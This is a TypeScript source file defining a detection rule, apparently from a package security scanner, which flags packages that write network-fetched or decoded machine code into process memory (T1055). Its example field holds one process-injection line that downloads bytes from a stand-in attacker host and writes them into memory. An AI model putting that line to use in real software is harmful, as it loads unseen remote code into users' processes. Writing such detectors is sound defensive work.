import { isPure } from '../values/labels.js';
import { isUnasked } from '../values/reach.js';
import { type Combination, WHEN } from './combination.js';

export const hiddenMachineCode: Combination = {
  doc: {
    id: 'hidden-machine-code',
    title: 'Puts machine code into memory that it fetches or decodes',
    why: 'Code from the network or from behind an encoding, put straight into memory, is in no file that anybody could look at.',
    remedy: 'Do not install the package.',
    example:
      'kernel32.WriteProcessMemory(process, place, urlopen("https://evil.invalid/x").read(), size, None)',
    technique: 'T1055',
  },
  judge: ({ behaviour, labels, reach }) => {
    if (behaviour !== 'writes-memory') return undefined;
    if (labels.has('network') && isPure(labels)) return 'CRITICAL';
    // Libraries that ask the processor what it can do keep a few bytes of their own in hexadecimal digits.
    return isUnasked(reach) && (labels.has('network') || labels.has('decoded')) ? 'CRITICAL' : undefined;
  },
  message: ({ name, reach }) => `${name} puts fetched or decoded code into memory ${WHEN[reach]}`,
};
